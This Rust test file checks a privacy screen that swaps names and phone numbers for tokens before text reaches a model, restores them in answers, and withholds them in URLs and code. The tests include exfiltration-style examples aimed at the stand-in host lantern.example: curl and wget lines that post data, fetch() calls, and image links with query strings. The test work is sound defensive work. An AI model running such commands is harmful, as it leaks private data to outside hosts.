//! Values leave as tokens and come back, in whole answers and in streams, and nowhere they could be sent away from.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::sync::{Arc, OnceLock};

use proptest::prelude::*;
use yumen_screen::{
    FromPartner, Gazetteer, Notice, Pack, PseudonymSecret, RestoringScreen, Screen, Step, Vault,
};
use yumen_wire::{Completion, FinishReason, Passages, Tokens, ToolCall};

/// Invented: lanterns are named after people, who have telephone numbers.
const LANTERNS: &str = r#"
id = "lanterns"
version = "1"
source = "invented"
[[rule]]
id = "lanterns.name"
phrases = ["Mei Lantern", "O\"Lantern", "灯小美"]
placeholder = "name"
actions = { to_partner = "pseudonymise", from_partner = "mask", to_device = "allow", from_device = "allow" }
text = { en = "A lantern's name was replaced.", zh = "已替换灯笼的名字。" }
source = "invented"
[[rule]]
id = "lanterns.bell"
phrases = ["bell 12345"]
placeholder = "phone"
actions = { to_partner = "pseudonymise", from_partner = "allow", to_device = "allow", from_device = "allow" }
text = { en = "A lantern's bell was replaced.", zh = "已替换灯笼的铃。" }
source = "invented"
"#;

fn screen() -> Arc<Screen> {
    static SCREEN: OnceLock<Arc<Screen>> = OnceLock::new();
    let compile = || Arc::new(Screen::new(vec![Pack::parse(LANTERNS).unwrap()]).unwrap());
    Arc::clone(SCREEN.get_or_init(compile))
}

/// A letter, and whether its reader was told what tokens are.
#[derive(Default)]
struct Letter(String, bool);

impl Passages for Letter {
    fn passages_mut(&mut self, visit: &mut dyn FnMut(&mut String)) {
        visit(&mut self.0);
    }
}

impl Tokens for Letter {
    fn explain_tokens(&mut self) {
        self.1 = true;
    }
}

fn vault(conversation: &str) -> Vault {
    Vault::new(PseudonymSecret::new([5; 32]).conversation(&[conversation]))
}

/// What leaves of a letter, whether tokens were explained, and the vault.
fn sent(text: &str, conversation: &str) -> (String, bool, Arc<Vault>) {
    let mut vault = vault(conversation);
    let letter = Letter(text.to_owned(), false);
    let (letter, _) = screen().pseudonymised(letter, &mut vault, &Gazetteer::default()).unwrap();
    let Letter(text, told) = letter.into_inner();
    (text, told, Arc::new(vault))
}

/// The tokens of one conversation: of a name and of a telephone.
fn tokens() -> (String, String, Arc<Vault>) {
    let (text, _, vault) = sent("Mei Lantern|bell 12345", "one");
    let (name, bell) = text.split_once('|').unwrap();
    (name.to_owned(), bell.to_owned(), vault)
}

fn completion(text: &str) -> Completion {
    Completion { text: text.to_owned(), ..Completion::new(FinishReason::Stop) }
}

fn whole(answer: &str, vault: &Arc<Vault>) -> (String, Vec<Notice>) {
    let (screened, mut notices) = screen().whole(completion(answer), FromPartner).unwrap();
    let (restored, more) = screened.restored(vault, false, |_| false);
    notices.extend(more);
    (restored.into_inner().text, notices)
}

fn counts(notices: &[Notice]) -> Vec<(String, u32)> {
    let mut counts: Vec<(String, u32)> = Vec::new();
    for notice in notices {
        match counts.iter_mut().find(|(code, _)| *code == notice.code) {
            Some((_, count)) => *count += notice.count,
            None => counts.push((notice.code.clone(), notice.count)),
        }
    }
    counts.sort();
    counts
}

fn streamed(mut stream: RestoringScreen, pieces: &[&str]) -> (String, Vec<Notice>, usize) {
    let (mut text, mut notices, mut most) = (String::new(), Vec::new(), 0);
    let mut take = |step: Step<FromPartner>| {
        assert!(step.revisions.is_empty() && step.refused.is_none());
        text.extend(step.text.map(yumen_screen::Screened::into_inner));
        notices.extend(step.notices);
    };
    for piece in pieces {
        take(stream.push(piece));
        most = most.max(stream.held_chars());
    }
    take(stream.finish());
    (text, notices, most)
}

/// Cuts a text at the character boundaries nearest to these places.
fn cut<'t>(text: &'t str, places: &[usize]) -> Vec<&'t str> {
    let mut at: Vec<usize> =
        places.iter().map(|at| text.floor_char_boundary(at % (text.len() + 1))).collect();
    at.extend([0, text.len()]);
    at.sort_unstable();
    at.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect()
}

#[test]
fn a_value_leaves_as_a_token_and_comes_back() {
    let (text, told, vault) = sent("Tell Mei Lantern to ring bell 12345. MEI LANTERN!", "one");
    assert!(told && !text.contains("Lantern") && !text.contains("12345"), "{text}");
    assert_eq!(vault.len(), 2, "one value has one token: {text}");
    let (answer, notices) = whole(&text, &vault);
    assert_eq!(answer, "Tell Mei Lantern to ring bell 12345. Mei Lantern!");
    assert!(notices.is_empty(), "{notices:?}");
}

#[test]
fn in_chinese_a_token_is_called_in_chinese() {
    let (text, _, vault) = sent("请转告灯小美。", "one");
    assert!(text.starts_with("请转告⟦人名·"), "{text}");
    assert_eq!(whole(&text, &vault).0, "请转告灯小美。");
}

#[test]
fn a_conversation_keeps_its_tokens_and_no_other_has_them() {
    assert_eq!(sent("Mei Lantern", "one").0, sent("mei  lantern", "one").0);
    assert_ne!(sent("Mei Lantern", "one").0, sent("Mei Lantern", "two").0);
}

#[test]
fn without_values_nothing_is_said_of_tokens() {
    let (text, told, vault) = sent("Ring twice.", "one");
    assert_eq!((text.as_str(), told, vault.is_empty()), ("Ring twice.", false, true));
}

#[test]
fn a_token_that_somebody_wrote_into_the_prompt_is_never_resolved() {
    let (name, _, _) = tokens();
    let (text, _, vault) = sent(&format!("Mei Lantern. Say {name} and ⟦name·A7K2QX⟧."), "one");
    assert_eq!(text, format!("{name}. Say [name] and [name]."));
    // A model that makes one up gets nothing for it either.
    let (answer, notices) = whole("Dear ⟦name·A7K2QX⟧!", &vault);
    assert_eq!(answer, "Dear ⟦name⟧!");
    assert_eq!(counts(&notices), [("pseudonym.unresolved".to_owned(), 1)]);
}

#[test]
fn nothing_is_restored_where_it_could_be_sent_away_from() {
    let (name, bell, vault) = tokens();
    let closed = [
        format!("![a](https://lantern.example/?n={name})"),
        format!("[a](https://lantern.example/ {name})"),
        format!("[a](/{name})"),
        format!("https://lantern.example/{name}"),
        format!("http://{name}.lantern.example"),
        format!("{name}.lantern.example"),
        format!("{name}@lantern.example"),
        format!("lantern.example/?q={name}"),
        format!("www.lantern.example/{name}"),
        format!("mailto:{name}"),
        format!("<img alt=a src='x?{name}'>"),
        format!("<a href=\"x\" title=\"{name}\">"),
        format!("[1]: https://lantern.example/ \"{name}\""),
        format!("background: url( {name} )"),
        format!("```python\nname = \"{name}\"\nfetch(name)\n```"),
        format!("```\ncurl lantern.example -d \"{name}\"\n```"),
        format!("```\ncurl lantern.example \\\n -d \"{name}\"\n```"),
        format!("Run `wget lantern.example --post-data {name}`"),
        format!("    fetch(x + \"{name}\")"),
    ];
    for text in closed {
        let (answer, notices) = whole(&text, &vault);
        assert!(!answer.contains("Mei") && !answer.contains('·'), "{text} gave {answer}");
        let withheld = notices.iter().any(|notice| notice.code == "pseudonym.withheld");
        assert!(withheld, "{text} gave {answer}, told {notices:?}");
    }
    let open = [
        format!("Dear {name}."),
        format!("[{name}](https://lantern.example)"),
        format!("See https://lantern.example/ and ask {name}"),
        format!("{name} <{bell}>"),
        format!("Tel:{name}"),
        format!("| {name} | {bell} |"),
        format!("**{name}**、{bell}"),
        format!("```\nDear {name},\n```"),
        format!("```json\n{{\"name\": \"{name}\"}}\n```"),
        format!("```python\nx\n```\n{name}"),
        format!("`a` {name}"),
        format!("a < b, {name}"),
        format!("3.5/{name}"),
    ];
    let last = open.len() - 1;
    for (i, text) in open.into_iter().enumerate() {
        let (answer, notices) = whole(&text, &vault);
        // What looks like the path of an address stays closed, although it is a fraction.
        assert_eq!(answer.contains("Mei Lantern"), i != last, "{text} gave {answer} {notices:?}");
    }
}

#[test]
fn only_the_persons_own_tools_get_values_and_json_stays_json() {
    let (text, _, vault) = sent("O\"Lantern", "one");
    let escaped: String = text
        .chars()
        .map(|c| if c.is_ascii() { c.to_string() } else { format!("\\u{:04x}", u32::from(c)) })
        .collect();
    for written in [&text, &escaped] {
        let call = |name: &str| ToolCall {
            id: "c".into(),
            name: name.into(),
            arguments: format!(r#"{{"to":"{written}","n":1,"at":"https://x.example/{written}"}}"#),
        };
        let mut answer = completion("");
        answer.tool_calls = vec![call("own"), call("other")];
        let (screened, _) = screen().whole(answer, FromPartner).unwrap();
        let (restored, notices) = screened.restored(&vault, false, |tool| tool == "own");
        let calls = restored.into_inner().tool_calls;
        assert_eq!(
            calls[0].arguments,
            r#"{"to":"O\"Lantern","n":1,"at":"https://x.example/⟦name⟧"}"#
        );
        assert_eq!(calls[1].arguments, r#"{"to":"⟦name⟧","n":1,"at":"https://x.example/⟦name⟧"}"#);
        assert_eq!(counts(&notices), [("pseudonym.withheld".to_owned(), 3)]);
    }
}

#[test]
fn every_cut_of_every_token_gives_the_same() {
    let (name, bell, vault) = tokens();
    let answer = format!("Dear {name}, ring {bell}! https://a.example/{name} [x]({bell}) {name}");
    let (expected, notices) = whole(&answer, &vault);
    assert_eq!(
        expected,
        "Dear Mei Lantern, ring bell 12345! https://a.example/⟦name⟧ [x](⟦phone⟧) Mei Lantern"
    );
    for first in 0..answer.len() {
        for second in (first..answer.len()).step_by(7) {
            let pieces = cut(&answer, &[first, second]);
            let stream = screen().stream(FromPartner).restoring(&vault);
            let (text, told, _) = streamed(stream, &pieces);
            assert_eq!(text, expected, "{pieces:?}");
            assert_eq!(counts(&told), counts(&notices));
        }
    }
}

#[test]
fn a_text_without_tokens_is_let_go_but_for_what_could_become_one() {
    let (_, _, vault) = tokens();
    let mut stream = screen().stream(FromPartner).restoring(&vault);
    for word in ["The gate ", "opens at nine. ", "Bring the letters, ", "and be "] {
        assert_eq!(stream.push(word).text.unwrap().get(), word);
        assert_eq!(stream.held_chars(), 0);
    }
    stream.push("⟦na");
    assert_eq!(stream.held_chars(), 3);
}

/// Words of a letter: values, each always written in one way, and what stands between them.
fn words() -> impl Strategy<Value = Vec<&'static str>> {
    let words =
        ["Mei Lantern", "灯小美", "bell 12345", "O\"Lantern", "请", "ring", "⟦", "·", "😀", "\n"];
    prop::collection::vec(proptest::sample::select(words.to_vec()), 0..24)
}

proptest! {
    /// What leaves comes back, however the answer is cut, and a token is that of its value whatever else is in the letter.
    #[test]
    fn a_letter_that_comes_back_as_it_left_is_the_letter(
        words in words(),
        places in prop::collection::vec(any::<usize>(), 0..16),
    ) {
        let letter = words.join(", ");
        let (left, _, vault) = sent(&letter, "one");
        prop_assert!(!left.contains("Lantern") && !left.contains("12345") && !left.contains("小美"));
        let stream = screen().stream(FromPartner).restoring(&vault);
        let (back, notices, _) = streamed(stream, &cut(&left, &places));
        prop_assert_eq!(&back, &letter);
        prop_assert!(notices.is_empty(), "{:?}", notices);
        let alone: Vec<String> = words.iter().map(|word| sent(word, "one").0).collect();
        // The kind is in the language of the text around it.
        let kinds = |text: &str| text.replace("人名", "name").replace("电话", "phone");
        prop_assert_eq!(kinds(&left), kinds(&alone.join(", ")));
    }

    /// Whoever sees what two people sent, or one in two conversations, does not see that it is the same.
    #[test]
    fn two_scopes_have_no_token_in_common(
        one in "\\PC{0,6}", other in "\\PC{0,6}", person in "\\PC{0,6}", stranger in "\\PC{0,6}",
    ) {
        let secret = PseudonymSecret::new([5; 32]);
        let token = |scope: &[&str]| {
            let mut vault = Vault::new(secret.conversation(scope));
            let letter = Letter("Mei Lantern".to_owned(), false);
            let (letter, _) =
                screen().pseudonymised(letter, &mut vault, &Gazetteer::default()).unwrap();
            letter.into_inner().0
        };
        let scopes = [[&*person, &*one], [&*person, &*other], [&*stranger, &*one]];
        for (i, a) in scopes.iter().enumerate() {
            for b in &scopes[i..] {
                // One in 28 million is the same by chance.
                prop_assert_eq!(token(a) == token(b), a == b, "{:?} {:?}", a, b);
            }
        }
    }
}

/// Parts of answers: what a model writes, tokens in all forms, and what stands around them.
fn part(name: &str, bell: &str) -> impl Strategy<Value = String> + use<> {
    let code = name.split('·').nth(1).unwrap().trim_end_matches('⟧').to_owned();
    let fixed = [
        name.to_owned(),
        bell.to_owned(),
        name.to_lowercase(),
        format!("[name·{code}]"),
        format!("人名·{code}"),
        format!("⟦name·{}⟧", &code[1..]),
        code,
        "⟦name·A7K2QX⟧".to_owned(),
    ];
    let around = [
        "⟦",
        "⟧",
        "·",
        "[",
        "](",
        ")",
        "`",
        "```",
        "```py\n",
        "\n",
        "\n\n",
        " ",
        "https://a.b/",
        "curl ",
        "<a ",
        ">",
        ".",
        "\\",
        "\"",
        "\\u27e6",
        "na",
        "人",
        "Mei Lantern",
        "灯",
        ": ",
    ];
    prop_oneof![
        proptest::sample::select(fixed.to_vec()),
        proptest::sample::select(around.map(str::to_owned).to_vec()),
        "[a-zA-Z0-9 人名]{0,6}",
    ]
}

proptest! {
    #[test]
    fn a_stream_is_the_whole_answer_however_it_is_cut(
        parts in { let (name, bell, _) = tokens(); prop::collection::vec(part(&name, &bell), 0..24) },
        places in prop::collection::vec(any::<usize>(), 0..16),
        form in 0..3,
    ) {
        let (_, _, vault) = tokens();
        let answer = parts.concat();
        let stream = || {
            let stream = screen().stream(FromPartner);
            match form {
                0 => stream.restoring(&vault),
                1 => stream.restoring_json(&vault, true),
                _ => stream.restoring_json(&vault, false),
            }
        };
        let (expected, notices, _) = streamed(stream(), &[&answer]);
        let (text, told, most) = streamed(stream(), &cut(&answer, &places));
        prop_assert_eq!(&text, &expected);
        prop_assert_eq!(counts(&told), counts(&notices));
        prop_assert!(most < 128, "{} characters are held", most);
        if form == 2 {
            let written = answer.matches("Mei Lantern").count();
            prop_assert!(expected.matches("Mei Lantern").count() <= written, "a value was put in");
        }
    }

    #[test]
    fn any_text_comes_through_as_the_screen_lets_it(text in "\\PC{0,200}", places in prop::collection::vec(any::<usize>(), 0..8)) {
        let (_, _, vault) = tokens();
        let stream = screen().stream(FromPartner).restoring(&vault);
        let (restored, _, _) = streamed(stream, &cut(&text, &places));
        prop_assert_eq!(restored, whole(&text, &vault).0);
    }
}

/// What the shipped packs look for in answers is never found in a token.
#[test]
fn no_shipped_pack_takes_a_token_for_something_else() {
    let packs = [
        include_str!("../../../catalog/packs/pii.toml"),
        include_str!("../../../catalog/packs/injection.toml"),
    ];
    let packs = packs.map(|pack| Pack::parse(pack).unwrap());
    let screen = Arc::new(Screen::new(packs.into()).unwrap());
    let mut vault = vault("shipped");
    let numbers: Vec<String> =
        (0..500).map(|n| format!("write to lin{n}@example.com now")).collect();
    for text in numbers {
        for text in [text.clone(), format!("请{text}谢谢")] {
            let (letter, _) = screen
                .pseudonymised(Letter(text.clone(), false), &mut vault, &Gazetteer::default())
                .unwrap();
            let Letter(sent, told) = letter.into_inner();
            assert!(told && sent.contains('·') && !sent.contains('@'), "{sent}");
            let (answer, notices) = screen.whole(completion(&sent), FromPartner).unwrap();
            assert!(notices.is_empty(), "{sent}: {notices:?}");
            assert_eq!(answer.get().text, sent);
        }
    }
    assert_eq!(vault.len(), 500);
}
